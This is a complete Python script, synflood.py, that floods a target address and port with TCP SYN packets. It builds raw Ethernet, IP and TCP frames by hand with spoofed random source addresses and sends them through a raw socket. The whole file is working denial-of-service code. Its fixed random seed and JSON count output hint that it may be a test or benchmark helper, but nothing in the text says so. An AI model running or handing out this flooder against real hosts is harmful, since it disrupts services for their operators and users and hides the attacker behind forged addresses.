#!/usr/bin/env python3
"""So many SYNs from random sources, as fast as a raw socket takes them, and no more:

  synflood.py IFACE DMAC ADDR PORT COUNT

Prints {"sent"}."""
import json
import random
import socket
import struct
import sys

iface, dmac, addr, port, count = sys.argv[1:]
out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind((iface, 0))
smac = open(f"/sys/class/net/{iface}/address").read().strip()
mac = lambda text: bytes(int(part, 16) for part in text.split(":"))
daddr = socket.inet_aton(addr)
rng = random.Random(1)


def fold(total):
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


def words(data):
    return sum(struct.unpack(f"!{len(data) // 2}H", data))


options = bytes([2, 4, 5, 180, 4, 2, 1, 1])
ethernet = mac(dmac) + mac(smac) + b"\x08\x00"
front = struct.pack("!BBHHHBB", 0x45, 0, 48, 0, 0x4000, 64, 6)
tail = struct.pack("!BBH", 7 << 4, 2, 1024)
ip_sum = words(front) + words(daddr)
tcp_sum = words(daddr) + 6 + 28 + int(port) + words(tail) + words(options)
header = struct.Struct("!14s10sHI4sHHIIBBHHH8s")
sent = 0
for _ in range(int(count)):
    # 16.0.0.0 to 95.255.255.255: addresses of hosts.
    saddr = rng.randrange(0x10000000, 0x60000000)
    bits = rng.getrandbits(48)
    sport, seq = 1024 + (bits & 0x7FFF), bits >> 16
    own = (saddr >> 16) + (saddr & 0xFFFF)
    check = fold(tcp_sum + own + sport + (seq >> 16) + (seq & 0xFFFF))
    frame = header.pack(
        ethernet, front, fold(ip_sum + own), saddr, daddr, sport, int(port), seq, 0, 7 << 4, 2, 1024, check, 0, options
    )
    try:
        out.send(frame)
        sent += 1
    except OSError:
        pass
print(json.dumps({"sent": sent}))
